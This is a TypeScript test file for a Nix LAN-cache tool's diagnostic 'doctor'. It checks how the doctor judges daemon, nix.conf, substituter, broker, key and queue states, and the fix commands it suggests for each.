// What the doctor makes of what it sees: each fault is one line that names it, with what fixes it;
// and a fault further on isn't blamed.
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { sudoFinds } from '../../scripts/cli/sudo.ts'
import { connectFileText, parseConnectFile } from '../../scripts/config/connect-file.ts'
import { connectIn } from '../../scripts/config/kinship.ts'
import { toldIn, withWords } from '../../scripts/doctor/as-root.ts'
import { type Check, exitCodeOf, failed, ok, runChecks, type State, skipped, type Verdict, warning } from '../../scripts/doctor/check.ts'
import { knownFixes, type Machine } from '../../scripts/doctor/fixes.ts'
import {
  judgeDispatcher,
  judgeLinger,
  judgeSession,
  judgeTimer,
  judgeTunnel,
  judgeUnits,
  type UnitFacts,
} from '../../scripts/doctor/judge-automatic.ts'
import {
  judgeBox,
  judgeKept,
  judgeLogin,
  judgeName,
  judgePort,
  parseKeys,
  parseSocket,
  type SshFacts,
} from '../../scripts/doctor/judge-box.ts'
import { type BrokerFacts, judgeBroker } from '../../scripts/doctor/judge-broker.ts'
import {
  type DirectoryFacts,
  judgeBash,
  judgeConnect,
  judgeEntries,
  judgeHook,
  judgeKey,
  judgeQueue,
  judgeRuntime,
  judgeStrays,
  judgeUnsigned,
} from '../../scripts/doctor/judge-files.ts'
import {
  type DaemonFacts,
  flakeReplaces,
  judgeBuilders,
  judgeConf,
  judgeDaemon,
  judgeFallback,
  judgeMinFree,
  judgeOwn,
  judgeSubstituter,
  judgeVersion,
} from '../../scripts/doctor/judge-nix.ts'
import { anywhere } from '../../scripts/doctor/read-automatic.ts'
import { lines, skippedLine, summary } from '../../scripts/doctor/report.ts'
import { expression, judgeFetch, judgeUpload } from '../../scripts/doctor/round-trip.ts'
import { parseNixConf } from '../../scripts/nix/nix-conf.ts'
import { parseSettings } from '../../scripts/nix/settings.ts'
import { needsBash, parseVersion } from '../../scripts/nix/version.ts'
import type { Doubt } from '../../scripts/system/trust.ts'

const test = suite('doctor')

/** A verdict, and what must be in its two texts; `null`: nothing to fix. */
function like(verdict: Verdict, state: State, found: RegExp, fix: RegExp | string | null, about = ''): void {
  assert.is(verdict.state, state, `${about} ${verdict.found}`)
  assert.match(verdict.found, found)
  if (fix === null || typeof fix === 'string') assert.is(verdict.fix, fix, about)
  else assert.match(verdict.fix ?? '', fix)
}

/** Set up by hand; by setup; on NixOS; a Nix of the user's own. */
const HAND: Machine = { kind: 'daemon', user: 'alice', conf: '/etc/nix/nix.conf', recorded: false }
const SETUP: Machine = { ...HAND, recorded: true }
const NIXOS: Machine = { ...HAND, kind: 'nixos' }
const SINGLE: Machine = { ...HAND, kind: 'single', conf: '/home/alice/.config/nix/nix.conf' }
const REBUILD = /^in configuration\.nix: .*, then: sudo nixos-rebuild switch/

// ---- running

const check = (name: string, verdict: Verdict, more: Partial<Check> = {}): Check => ({ name, needs: [], run: () => verdict, ...more })

async function states(checks: readonly Check[], offline = false): Promise<string[]> {
  const findings = await runChecks(checks, { offline, starts: () => {}, ended: () => {} })
  return findings.map(({ check, cache, state }) => `${cache ? `${cache}/` : ''}${check} ${state}`)
}

test('a check whose needs have failed is not run; one that is excused is run and not blamed', async () => {
  let ran = 0
  const counted = (name: string, needs: string[], excuses: string[] = []): Check => ({
    name,
    needs,
    excuses,
    run: () => {
      ran++
      return failed('x', null)
    },
  })
  assert.equal(await states([check('a', failed('', null)), counted('b', ['a']), counted('c', ['b'])]), [
    'a failed',
    'b skipped',
    'c skipped',
  ])
  assert.is(ran, 0)
  assert.equal(await states([check('a', failed('', null)), counted('b', [], ['a'])]), ['a failed', 'b skipped'])
  assert.equal(await states([check('a', ok('')), counted('b', [], ['a'])]), ['a ok', 'b failed'])
  assert.equal(await states([check('a', failed('', null)), check('b', ok(''), { excuses: ['a'] })]), ['a failed', 'b ok'])
  assert.equal(await states([check('a', warning('', null)), check('b', ok(''), { needs: ['a'] })]), ['a warning', 'b ok'])
})

test('a need is the same cache’s before it is the machine’s, never another cache’s', async () => {
  const all = [
    check('queue', failed('', null), { cache: 'one' }),
    check('queue', ok(''), { cache: 'two' }),
    check('upload', ok(''), { cache: 'one', needs: ['queue'] }),
    check('upload', ok(''), { cache: 'two', needs: ['queue'] }),
  ]
  assert.equal(await states(all), ['one/queue failed', 'two/queue ok', 'one/upload skipped', 'two/upload ok'])
})

test('what is left out names the check that has failed, however far up', async () => {
  const chain = [check('a', failed('', null)), check('x', failed('', null)), check('b', ok(''), { needs: ['a'] })]
  const more = [check('c', ok(''), { needs: ['b', 'x'] }), check('n', ok(''), { online: true }), check('m', ok(''), { needs: ['n'] })]
  const findings = await runChecks([...chain, ...more], { offline: true, starts: () => {}, ended: () => {} })
  assert.equal(
    findings.slice(2).map(({ found }) => found),
    ['needs a', 'needs a, x', 'not with --offline', 'not with --offline'],
  )
})

test('--offline: what uses the network is not run', async () => {
  const never: Check = { name: 'net', needs: [], online: true, run: () => assert.unreachable() as never }
  assert.equal(await states([never, check('a', ok(''), { needs: ['net'] }), check('b', ok(''))], true), [
    'net skipped',
    'a skipped',
    'b ok',
  ])
})

test('exit code: only what failed counts', () => {
  const findings = (...list: Verdict[]) => list.map((verdict) => ({ check: 'x', ...verdict }))
  assert.is(exitCodeOf(findings(ok(''), warning('', null), skipped(''))), 0)
  assert.is(exitCodeOf(findings(ok(''), failed('', null))), 1)
})

// ---- the report

test('the report: state, name, what was seen in lines of 100 characters at most, what fixes it whole', () => {
  const found = `${'word '.repeat(30)}end`
  const fix = `sudo ${'x'.repeat(150)}`
  const text = lines({ check: 'dispatcher', ...failed(found, fix) })
  assert.match(text, /^FAILED {3}dispatcher {5}word word/)
  assert.ok(text.includes(`fix: ${fix}\n`))
  for (const line of text.split('\n')) if (!line.includes('fix:')) assert.ok(line.length <= 100, line)
  assert.is(lines({ check: 'nix', ...ok('Nix 2.8.0') }), 'ok       nix            Nix 2.8.0\n')
  assert.is(lines({ check: 'nix', ...ok('a\u001b[31mb\nc') }), 'ok       nix            a?[31mb c\n')
  assert.match(lines({ check: 'a', ...warning('w', 'one\ntwo') }), /fix: one\n {29}two\n$/)
  assert.is(lines({ check: 'nix', ...ok('one two three') }, 32), 'ok       nix            one two\n                        three\n')
})

test('skipped checks share a line; the last line counts', () => {
  const left = [
    { check: 'a', ...skipped('needs x') },
    { check: 'b', ...skipped('needs x') },
    { check: 'c', ...skipped('needs y') },
  ]
  assert.is(skippedLine(left), 'skipped  a, b (needs x)\nskipped  c (needs y)\n')
  assert.is(skippedLine(left, 20), 'skipped  a, b (needs\n         x)\nskipped  c (needs y)\n')
  assert.is(summary([{ check: 'a', ...ok('') }]), 'all is well\n')
  assert.is(
    summary([...left, { check: 'd', ...failed('', null) }, { check: 'e', ...warning('', null) }]),
    '1 failed, 1 warning, 3 not checked\n',
  )
  assert.is(
    summary([
      { check: 'e', ...warning('', null) },
      { check: 'e', ...warning('', null) },
    ]),
    'nothing failed; 2 warnings\n',
  )
})

// ---- Nix

test('versions: too old, Lix, what is worked around', () => {
  const judged = (output: string) => judgeVersion(parseVersion(output), 'ENOENT')
  like(judged(''), 'failed', /nix doesn't tell its version: ENOENT/, /install Nix/)
  like(judged('nix (Nix) 2.3.7\n'), 'failed', /Nix 2\.3\.7 can't run a program as a store/, /install Nix 2\.4/)
  like(judged('nix (Nix) 2.4'), 'ok', /^Nix 2\.4$/, null)
  like(judged('nix (Nix) 2.8.0'), 'ok', /#6446/, null)
  like(judged('nix (Nix) 2.34.8'), 'ok', /^Nix 2\.34\.8$/, null)
  like(judged('nix (Lix, like Nix) 2.93.0'), 'warning', /Lix 2\.93\.0/, null)
  const bash = (output: string) => needsBash(parseVersion(output) ?? (assert.unreachable() as never))
  assert.equal(['nix (Nix) 2.8.0', 'nix (Nix) 2.19.2', 'nix (Nix) 2.20.0', 'nix (Lix, like Nix) 2.93.0'].map(bash), [
    true,
    true,
    false,
    true,
  ])
})

test('the daemon: single-user, not allowed, missing, unresponsive, older than its configuration', () => {
  const facts = (more: Partial<DaemonFacts>): DaemonFacts => ({ single: false, socket: '/s', user: 'alice', protocol: 0x123, ...more })
  like(judgeDaemon(facts({ single: true }), SINGLE), 'ok', /your own/, null)
  like(
    judgeDaemon(facts({ denied: 'EACCES', group: 'nix' }), HAND),
    'failed',
    /alice may not use \/s, which is for group nix/,
    /^sudo usermod -aG nix alice/,
  )
  like(
    judgeDaemon(facts({ denied: 'EACCES', group: 'nix' }), NIXOS),
    'failed',
    /group nix/,
    /users\.users\.alice\.extraGroups = \[ "nix" \];/,
  )
  like(judgeDaemon(facts({ denied: 'ENOENT' }), HAND), 'failed', /no \/s/, /enable --now nix-daemon\.socket/)
  like(judgeDaemon(facts({ problem: 'unresponsive' }), HAND), 'failed', /unresponsive/, /restart/)
  const changed = (time: number) => judgeDaemon(facts({ started: 1_000_000, changed: { file: '/etc/nix/nix.conf', time } }), HAND)
  like(
    changed(1_010_000),
    'failed',
    /started before \/etc\/nix\/nix\.conf changed and has not reloaded it/,
    'sudo systemctl restart nix-daemon',
  )
  like(changed(1_000_020), 'ok', /protocol 1\.35/, null, 'within the ticks of the clocks')
  like(changed(900_000), 'ok', /has read nix\.conf as it is now/, null)
  like(judgeDaemon(facts({ changed: { file: 'f', time: 5 } }), HAND), 'ok', /answers/, null, 'not running: it will read it when it starts')
})

test('nix.conf: unreadable; includes where they are wrong', () => {
  const version = (minor: number) => ({ lix: false, text: `2.${minor}.0`, major: 2, minor })
  const facts = { settings: new Map<string, string>(), version: version(18), includes: ['include x'] }
  like(judgeConf({ ...facts, settings: 'syntax error' }, HAND), 'failed', /syntax error/, /fix \/etc\/nix\/nix\.conf/)
  like(judgeConf({ ...facts, hidden: '/f' }, HAND), 'failed', /you may not read \/f/, 'sudo chmod a+r /f')
  const states = [15, 16, 21, 22].map((minor) => judgeConf({ ...facts, version: version(minor) }, HAND).state)
  assert.equal(states, ['ok', 'warning', 'warning', 'ok'])
  like(judgeConf({ ...facts, includes: [] }, HAND), 'ok', /can be read/, null)
})

const SOCKET = '/run/user/1000/nix-lan/pi.sock'
const URL_PI = `ssh-ng://localhost?remote-program=/usr/local/bin/nix-lan-connect%20${SOCKET}`

test('a URL of ours, by its program and its target', () => {
  const table: [url: string, program: string | undefined, target?: string][] = [
    [URL_PI, '/usr/local/bin/nix-lan-connect', SOCKET],
    ['ssh-ng://localhost?max-connections=4&remote-program=/x/nix-lan-connect%20--strict%20pi', '/x/nix-lan-connect', 'pi'],
    ['ssh-ng://localhost?remote-program=/x/nix-lan-connect', undefined],
    ['ssh-ng://localhost?remote-program=/x/other%20pi', undefined],
    ['ssh-ng://pi?remote-program=/x/nix-lan-connect%20pi', undefined],
    ['https://cache.nixos.org/', undefined],
    ['ssh-ng://localhost?remote-program=%zz', undefined],
  ]
  for (const [url, program, target] of table) {
    assert.equal([connectIn(url)?.program, connectIn(url)?.target], [program, target], url)
  }
})

test('substituter: named, taken back by a later line, only trusted, another socket, not named', () => {
  const judged = (conf: string, effective: string, machine = HAND, right = URL_PI, ours = false) => {
    const system = parseNixConf(conf, '/etc/nix/nix.conf', () => undefined)
    const at = conf.split('\n').findIndex((line) => line.startsWith('substituters'))
    const replacing = at < 0 ? {} : { replacing: { file: '/etc/nix/nix.conf', number: at + 1, text: 'substituters = x' } }
    const settings = new Map([['substituters', effective]])
    return judgeSubstituter({ cache: 'pi', socket: SOCKET, url: right, settings, system, ours, ...replacing }, machine)
  }
  like(
    judged(`extra-substituters = ${URL_PI}`, `https://cache.nixos.org/ ${URL_PI}`),
    'ok',
    /asks pi, by \/usr\/local\/bin\/nix-lan-connect/,
    null,
  )
  like(
    judged(`extra-substituters = ${URL_PI}\nsubstituters = x`, 'x'),
    'failed',
    /nix\.conf:2 "substituters = x" .* takes it back/,
    /move line 2 above/,
  )
  like(
    judged(`trusted-substituters = ${URL_PI}`, ''),
    'failed',
    /only in trusted-substituters/,
    `in /etc/nix/nix.conf: extra-substituters = ${URL_PI}, then: sudo systemctl restart nix-daemon`,
  )
  like(judged('', '', SETUP), 'failed', /no substituter/, 'sudo nix-lan setup')
  like(judged('', '', NIXOS), 'failed', /no substituter/, REBUILD)
  const broker = URL_PI.replace('/run/user/1000', '/run')
  like(judged(`extra-substituters = ${broker}`, broker, SETUP, broker), 'ok', /asks pi/, null)
  const old = (machine: Machine, ours: boolean) => judged(`extra-substituters = ${URL_PI}`, URL_PI, machine, broker, ours)
  like(
    old(SETUP, true),
    'warning',
    /asks pi by nix-lan-connect \/run\/user\/1000\/nix-lan\/pi\.sock, not by \/run\/nix-lan/,
    'sudo nix-lan setup',
  )
  like(
    old(SETUP, false),
    'warning',
    /asks pi by/,
    `in /etc/nix/nix.conf: put ${broker} in place of ${URL_PI}, then: sudo systemctl restart nix-daemon`,
  )
  like(old(NIXOS, false), 'warning', /asks pi by/, REBUILD)
  const four = broker.replace('?', '?max-connections=4&')
  const upgraded = (now: string, right: string, machine: Machine, ours: boolean) =>
    judged(`extra-substituters = ${now}`, now, machine, right, ours)
  like(upgraded(four, four, SETUP, true), 'ok', /by \/usr\/local\/bin\/nix-lan-connect$/, null)
  like(upgraded(four, broker, SETUP, true), 'ok', /; .* starts faster with one connection: sudo nix-lan setup$/, null)
  like(upgraded(broker, four, SETUP, true), 'ok', /; .* faster with several connections: sudo nix-lan setup$/, null)
  like(
    upgraded(broker, four, SETUP, false),
    'ok',
    /several connections: in \/etc\/nix\/nix\.conf: put \S+max-connections=4\S+ in place of/,
    null,
  )
  like(upgraded(four.replace('=4', '=8'), four, SETUP, true), 'ok', /nix-lan-connect$/, null)
  like(upgraded(broker, four, NIXOS, false), 'ok', /nix-lan-connect$/, null)
  const byName = 'ssh-ng://localhost?remote-program=/x/nix-lan-connect%20pi'
  like(judged(`extra-substituters = ${byName}`, byName, HAND, broker), 'ok', /asks pi/, null)
  const other = URL_PI.replace('1000', '1001')
  like(judged(`extra-substituters = ${other}`, other), 'failed', /socket \/run\/user\/1001/, /1000/)
  like(judged('', ''), 'failed', /no substituter for pi/, /extra-substituters/)
})

test('broker: what it needs of root, of systemd, and its socket', () => {
  const unit = { loadState: 'loaded', active: 'active', result: 'success', file: '/etc/u', same: true, needsReload: false, user: 'alice' }
  const facts: BrokerFacts = {
    systemd: true,
    perl: true,
    user: 'alice',
    file: { path: '/etc/nix-lan/connect/pi', kind: 'file', owner: 'root', mode: 0o644 },
    settings: { user: 'alice', same: true },
    socket: { path: '/run/nix-lan/pi.sock', kind: 'socket', owner: 'alice', mode: 0o600 },
    units: [
      { ...unit, name: 'nix-lan-broker@pi.socket' },
      { ...unit, name: 'nix-lan-broker@pi.service', active: 'inactive' },
    ],
  }
  const judged = (more: Partial<BrokerFacts>, machine = SETUP) => judgeBroker({ ...facts, ...more }, 'pi', machine)
  const socketUnit = (more: Partial<BrokerFacts['units'][0]>) =>
    judged({ units: facts.units.map((one, i) => (i === 0 ? { ...one, ...more } : one)) })
  const AGAIN = 'sudo nix-lan setup'
  const RESTART = 'sudo systemctl restart nix-lan-broker@pi.socket'
  like(judged({}), 'ok', /^starts when Nix asks$/, null)
  like(judged({ units: facts.units.map((one) => ({ ...one, active: 'active' })) }), 'ok', /^runs$/, null)
  like(judged({ perl: false }), 'ok', /install perl/, null)
  const none = { ...facts.file, kind: 'missing' as const }
  like(judged({ file: none }), 'failed', /there is no \/etc\/nix-lan\/connect\/pi/, AGAIN)
  like(judged({ file: none }, HAND), 'ok', /none here/, null)
  like(judged({ file: none, systemd: false }), 'ok', /none here/, null)
  like(judged({ file: none }, NIXOS), 'failed', /there is no/, REBUILD)
  like(judged({ file: { ...facts.file, kind: 'other' } }), 'failed', /no plain file/, AGAIN)
  like(judged({ file: { ...facts.file, owner: 'alice' } }), 'failed', /it is alice's, not root's/, AGAIN)
  like(judged({ file: { ...facts.file, mode: 0o666 } }), 'failed', /others may write to it \(mode 666\)/, AGAIN)
  like(judged({ settings: undefined }), 'failed', /names no user/, AGAIN)
  like(judged({ settings: { user: 'bob', same: false } }), 'failed', /is for bob, not for alice/, AGAIN)
  like(judged({ settings: { user: 'alice', same: false } }), 'failed', /another deadline or patience/, AGAIN)
  like(socketUnit({ loadState: 'not-found' }), 'failed', /systemd has no nix-lan-broker@pi\.socket/, AGAIN)
  like(socketUnit({ loadState: 'masked' }), 'failed', /is masked/, 'sudo systemctl unmask nix-lan-broker@pi.socket')
  like(socketUnit({ same: false }), 'failed', /not that of this version/, AGAIN)
  like(socketUnit({ user: 'root' }), 'failed', /nix-lan-broker@pi\.socket is for root, not for alice/, AGAIN)
  like(socketUnit({ needsReload: true }), 'failed', /has not reloaded/, 'sudo systemctl daemon-reload')
  like(socketUnit({ active: 'inactive' }), 'failed', /^nix-lan-broker@pi\.socket is inactive$/, RESTART)
  like(socketUnit({ active: 'failed', result: 'service-start-limit-hit' }), 'failed', /is failed \(service-start-limit-hit\)/, RESTART)
  like(judged({ socket: { ...facts.socket, kind: 'missing' } }), 'failed', /no socket at \/run\/nix-lan\/pi\.sock/, RESTART)
  like(judged({ socket: { ...facts.socket, owner: 'root' } }), 'failed', /is root's, with mode 600, not alice's with 600/, RESTART)
  like(judged({ socket: { ...facts.socket, mode: 0o666 } }), 'failed', /with mode 666/, RESTART)
})

test('root’s file for nix-lan-connect says what config.toml says', () => {
  const cache = { deadline: 500, patience: 60_000 }
  assert.is(connectFileText('alice', { deadline: 2000, patience: 60_000 }), 'user=alice\n')
  assert.is(connectFileText('alice', cache), 'user=alice\ndeadline=0.5\n')
  assert.equal(parseConnectFile(connectFileText('DOM\\a=b', cache)), { user: 'DOM\\a=b', deadline: 0.5 })
  assert.equal(parseConnectFile('# a comment\n\nuser=alice\npatience=0\n'), { user: 'alice', patience: 0 })
  for (const text of ['', 'user=\n', 'patience=5\n', 'user=alice\npatience=x\n', 'user=alice\ndeadline=-1\n', 'user=alice\nsocket=/x\n'])
    assert.is(parseConnectFile(text), undefined, JSON.stringify(text))
})

test('own settings: a file of the user’s, NIX_CONFIG, a flake', () => {
  const judged = (
    effective: string,
    own: { key: string; values: string[]; where: string }[],
    flake?: string,
    behind = (file: string) => file,
  ) =>
    judgeOwn({
      cache: 'pi',
      socket: SOCKET,
      settings: new Map([['substituters', effective]]),
      system: [],
      own,
      behind,
      ...(flake ? { flake } : {}),
    })
  like(judged(URL_PI, []), 'ok', /nothing of your own/, null)
  const off = (where: string, settings = { substituters: URL_PI, substitute: 'false' }, folder = '/dotfiles') =>
    judgeOwn({
      cache: 'pi',
      socket: SOCKET,
      settings: new Map(Object.entries(settings)),
      system: [{ key: 'substitute', values: ['true'], where: '/etc/nix/nix.conf' }],
      own: where === '' ? [] : [{ key: 'build-use-substitutes', values: ['false'], where }],
      behind: (file) => `${folder}${file}`,
    })
  like(
    off('/home/alice/nix.conf'),
    'failed',
    /^\/home\/alice\/nix\.conf sets substitute = false/,
    'take that line out of /dotfiles/home/alice/nix.conf',
  )
  like(
    off('/hm', undefined, '/nix/store/x'),
    'failed',
    /^\/hm sets/,
    /^take that line out of what made \/nix\/store\/x\/hm \(nix\.settings /,
  )
  like(off('NIX_CONFIG'), 'failed', /^NIX_CONFIG sets/, 'take that line out of NIX_CONFIG')
  like(off('/x', { substituters: URL_PI, substitute: 'true' }), 'ok', /nothing of your own/, null)
  const file = '/home/alice/.config/nix/nix.conf'
  like(
    judged('x', [{ key: 'substituters', values: ['x'], where: file }]),
    'failed',
    /"substituters =" in \/home\/alice.* replaces/,
    `sed -i 's/^[[:blank:]]*substituters[[:blank:]]*=/extra-substituters =/' ${file}`,
  )
  like(judged('x', [{ key: 'substituters', values: ['x'], where: 'NIX_CONFIG' }]), 'failed', /NIX_CONFIG/, /^write extra-substituters/)
  // sed -i would put a file in the place of a link: a dotfile repository's, Home Manager's
  const linked = (target: string) => judged('x', [{ key: 'substituters', values: ['x'], where: file }], undefined, () => target)
  like(linked('/home/alice/dot files/nix.conf'), 'failed', /replaces/, / '\/home\/alice\/dot files\/nix\.conf'$/)
  like(linked('/nix/store/x-nix.conf'), 'failed', /replaces/, /^write extra-substituters.*Home Manager: nix\.settings\.extra-substituters/)
  like(judged(URL_PI, [], '/src/flake.nix'), 'warning', /nixConfig in \/src\/flake\.nix/, /flake\.nix: write extra-substituters/)
  const flakes: [text: string, replaces: boolean][] = [
    ['{ nixConfig = { substituters = [ "x" ]; }; }', true],
    ['{ nixConfig.substituters = [ "x" ]; }', true],
    ['{ nixConfig = { extra-substituters = [ "x" ]; }; }', false],
    ['{ # nixConfig.substituters = [ ];\n }', false],
    ['{ outputs = x: { substituters = 1; }; }', false],
  ]
  for (const [text, replaces] of flakes) assert.is(flakeReplaces(text), replaces, text)
})

test('settings are read from what nix prints', () => {
  const settings = parseSettings('builders = @/etc/nix/machines\nempty = \nno-value =\nsubstituters = a b\nwarning: x\n')
  assert.equal(
    [...settings],
    [
      ['builders', '@/etc/nix/machines'],
      ['empty', ''],
      ['no-value', ''],
      ['substituters', 'a b'],
    ],
  )
})

test('builders', () => {
  const none = () => ''
  like(judgeBuilders('', none), 'ok', /no other machine/, null)
  like(judgeBuilders('@/etc/nix/machines', none), 'ok', /no other machine/, null)
  like(
    judgeBuilders('@/f', (file) => (file === '/f' ? '# none\nssh://big x86_64-linux - 4\n' : '')),
    'warning',
    /ssh:\/\/big builds/,
    /secret-key-files/,
  )
  like(judgeBuilders('ssh://a - ; ssh://b', none), 'warning', /ssh:\/\/a and ssh:\/\/b/, /trust that key/)
})

// ---- files

test('programs that root runs: missing, not executable, somebody else’s', () => {
  const file = '/usr/local/bin/nix-lan-connect'
  like(judgeConnect({ file, root: true, executable: true }, file, HAND), 'ok', /nobody but root/, null)
  like(
    judgeConnect({ file: '/gone', root: true, missing: 'ENOENT', executable: false }, file, HAND),
    'failed',
    /\/gone is not there.*every build fails/,
    `in /etc/nix/nix.conf: name ${file} in its place, then: sudo systemctl restart nix-daemon`,
  )
  like(
    judgeConnect({ file, root: true, executable: false }, file, HAND),
    'failed',
    /not executable: every build fails/,
    `sudo chmod a+rx ${file}`,
  )
  like(
    judgeConnect({ file, root: true, executable: true, doubt: { why: 'others can write', fix: 'sudo chmod go-w /x' } }, file, HAND),
    'failed',
    /others can write/,
    'sudo chmod go-w /x',
  )
  const hook = { file: '/h', root: true, executable: true, ours: true }
  like(judgeHook(hook, '/right', HAND), 'ok', /^\/h/, null)
  like(
    judgeHook({ ...hook, file: '' }, '/right', HAND),
    'failed',
    /no post-build-hook/,
    'in /etc/nix/nix.conf: post-build-hook = /right, then: sudo systemctl restart nix-daemon',
  )
  like(judgeHook({ ...hook, file: '' }, '/right', SETUP), 'failed', /no post-build-hook/, 'sudo nix-lan setup')
  like(judgeHook({ ...hook, file: '' }, '/right', NIXOS), 'failed', /no post-build-hook/, REBUILD)
  like(judgeHook({ ...hook, executable: false }, '/right', HAND), 'failed', /not executable: every build fails/, 'sudo chmod a+rx /h')
  like(judgeHook({ ...hook, ours: false }, '/right', HAND), 'failed', /does not call nix-lan/, /let it call \/right/)
  like(
    judgeHook({ ...hook, ours: false }, '/right', NIXOS),
    'failed',
    /does not call nix-lan/,
    /extraHooks = \[ "\/h" \];.*nixos-rebuild switch$/,
  )
})

test('the runtime: none, too old, broken, a user’s', () => {
  const judged = (file: string | undefined, version: string, doubt?: Doubt) =>
    judgeRuntime({ path: '/usr/bin', own: '/home/a/node', version, ...(file ? { file } : {}), ...(doubt ? { doubt } : {}) }, HAND)
  like(
    judged(undefined, ''),
    'failed',
    /no node, deno or bun in \/usr\/bin \(yours is \/home\/a\/node\)/,
    /\nsudo apt install nodejs .*\nsudo dnf .*\nsudo pacman .*\nsudo .* profile install .*\nsudo install -m 755 \/home\/a\/node \/usr\/local\/bin\/ /,
  )
  like(judged('/usr/bin/node', 'v18.18.2'), 'failed', /v18\.18\.2: too old/, /18\.19/)
  like(judged('/usr/bin/node', 'v18.19.0'), 'ok', /v18\.19\.0/, null)
  like(judged('/usr/bin/node', 'v9.0.0'), 'failed', /too old/, /install/)
  like(judged('/usr/bin/deno', 'deno 1.46.0'), 'failed', /too old/, /install/)
  like(judged('/usr/bin/bun', '1.4.5'), 'ok', /1\.4\.5/, null)
  like(judged('/usr/bin/node', 'ENOEXEC'), 'failed', /does not run: ENOEXEC/, /install/)
  like(
    judged('/usr/bin/node', 'v20.1.0', { why: '/usr/bin/node belongs to uid 5', fix: 'sudo chown root /usr/bin/node' }),
    'failed',
    /belongs to uid 5/,
    'sudo chown root /usr/bin/node',
  )
  const atHome = judged('/usr/local/bin/node', 'v20.1.0', { why: '/home/a belongs to a', fix: null })
  like(atHome, 'failed', /root runs \/usr\/local\/bin\/node, but \/home\/a belongs to a/, /install Node/)
})

test('bash, the key, what is unsigned', () => {
  like(judgeBash(false, undefined, '', HAND), 'ok', /not needed/, null)
  like(judgeBash(true, '/bin/bash', '/bin', HAND), 'ok', /\/bin\/bash/, null)
  like(judgeBash(true, undefined, '/x', HAND), 'failed', /no bash in \/x/, /systemctl edit nix-daemon/)
  like(judgeBash(true, undefined, '/x', NIXOS), 'failed', /no bash in \/x/, REBUILD)
  const key = { files: ['/k'], mode: 0o600, publicKey: 'me-1:abc', trusted: ['me-1:abc'] }
  const judged = (more: Partial<typeof key> & { missing?: string }, machine = HAND) => judgeKey({ ...key, ...more }, machine)
  like(judged({}), 'ok', /signs as me-1.*--option secret-key-files ''/, null)
  like(judged({}, SINGLE), 'ok', /^signs as me-1, and trusts it$/, null)
  // never a command that makes a key: there may be one already, and of two with one name Nix trusts
  // only the first
  for (const machine of [HAND, SETUP]) like(judged({ files: [] }, machine), 'failed', /no secret-key-files/, /^sudo nix-lan setup/)
  const module = 'in configuration.nix: services.nix-lan.enable = true; (nix/README.md has the rest), then: sudo nixos-rebuild switch'
  like(judged({ files: [] }, NIXOS), 'failed', /no secret-key-files/, module)
  like(judged({ missing: 'ENOENT' }), 'failed', /not there/, /^sudo nix-lan setup .*put the key back/)
  like(judged({ missing: 'ENOENT' }, NIXOS), 'failed', /not there/, /^sudo systemctl restart nix-lan-key/)
  like(judged({ mode: 0o644 }), 'failed', /others than root can read \/k/, 'sudo chmod 600 /k')
  like(
    judged({ trusted: ['me-1:old', 'other-1:abc'] }),
    'failed',
    /does not trust its own key: another key called me-1 is trusted here/,
    'in /etc/nix/nix.conf: extra-trusted-public-keys = me-1:abc, in place of the other me-1, then: sudo systemctl restart nix-daemon',
  )
  like(
    judgeKey({ ...key, trusted: ['me-1:old'] }, NIXOS),
    'failed',
    /does not trust its own key/,
    /^in configuration\.nix: services\.nix-lan\.publicKey = "me-1:abc"; in place of the other me-1, then: sudo nixos-rebuild switch$/,
  )
  // the daemon trusts a key of which it has the secret
  like(judged({ trusted: ['me-10:abc', 'other-1:abc'] }), 'ok', /signs as me-1/, null)
  like(judgeUnsigned(0, 3, HAND), 'ok', /all that was built here is signed \(3 paths\)/, null)
  like(judgeUnsigned(1, 3, HAND), 'warning', /^1 of 3 paths built here is unsigned/, 'sudo nix-lan queue sign --built')
})

test('sudo is told where nix-lan is, unless it lies where every sudo looks', () => {
  assert.is(sudoFinds('sudo nix-lan setup', '/usr/local/bin/nix-lan-connect'), 'sudo /usr/local/bin/nix-lan setup')
  assert.is(sudoFinds('see: sudo -u alice nix-lan status', '/usr/local/bin/nix-lan'), 'see: sudo -u alice /usr/local/bin/nix-lan status')
  assert.is(sudoFinds('x: sudo nix-lan setup', '/usr/bin/nix-lan'), 'x: sudo nix-lan setup')
  assert.is(sudoFinds('sudo nix-lan a, sudo nix-lan b', '/my own/nix-lan'), "sudo '/my own/nix-lan' a, sudo '/my own/nix-lan' b")
  assert.is(
    sudoFinds('sudo nix-lan-run x; sudo chown root /etc/nix-lan/x; sudo -u alice nix-lan-tunnel', '/opt/nix-lan'),
    'sudo /opt/nix-lan-run x; sudo chown root /etc/nix-lan/x; sudo -u alice /opt/nix-lan-tunnel',
  )
})

test('the queue’s directories', () => {
  const dirs = (at: number, more: Partial<DirectoryFacts>): DirectoryFacts[] =>
    ['/r', '/r/queue', '/r/queue/pi'].map((path, i) => ({
      path,
      kind: 'directory' as const,
      uid: i === 2 ? 1000 : 0,
      mode: 0o755,
      owner: i === 2 ? 1000 : 0,
      ...(i === at ? more : {}),
    }))
  const judged = (at: number, more: Partial<DirectoryFacts>) => judgeQueue(dirs(at, more), 'alice', 'sudo make')
  like(judged(-1, {}), 'ok', /belongs to alice/, null)
  like(judged(2, { kind: 'missing' }), 'failed', /\/r\/queue\/pi is not there/, 'sudo make')
  like(judged(2, { uid: 1001 }), 'failed', /belongs to uid 1001, not to alice/, 'sudo chown alice /r/queue/pi')
  like(judged(1, { uid: 1000 }), 'failed', /belongs to uid 1000, not to root/, 'sudo chown root /r/queue')
  like(judged(0, { mode: 0o777 }), 'failed', /others can write to \/r$/, 'sudo chmod go-w /r')
  like(judged(2, { kind: 'other' }), 'failed', /not a directory/, 'sudo rm /r/queue/pi && sudo make')
  like(judgeEntries(0, 0, [], 'pi'), 'ok', /empty/, null)
  like(judgeEntries(1, 0, [], 'pi'), 'ok', /1 path waits/, null)
  const full = { why: "the box's disk is full: x needs 2 GiB", full: true }
  like(
    judgeEntries(2, 0, [], 'pi', full),
    'warning',
    /^2 paths wait: the box's disk is full: x needs 2 GiB$/,
    /^nix-lan box gc --cache pi$/,
  )
  like(judgeEntries(0, 0, [], 'pi', full), 'ok', /^empty$/, null)
  like(
    judgeEntries(1, 0, [], 'pi', { why: 'the connection is metered', full: false }),
    'ok',
    /^1 path waits: the connection is metered$/,
    null,
  )
  like(judgeEntries(2, 1, [], 'pi'), 'warning', /1 could not be uploaded/, 'nix-lan queue retry --cache pi')
  like(judgeEntries(0, 0, [{ file: '/q/a b', what: 'a directory' }], 'pi'), 'warning', /a b is a directory/, "rm -r '/q/a b'")
})

// ---- by itself

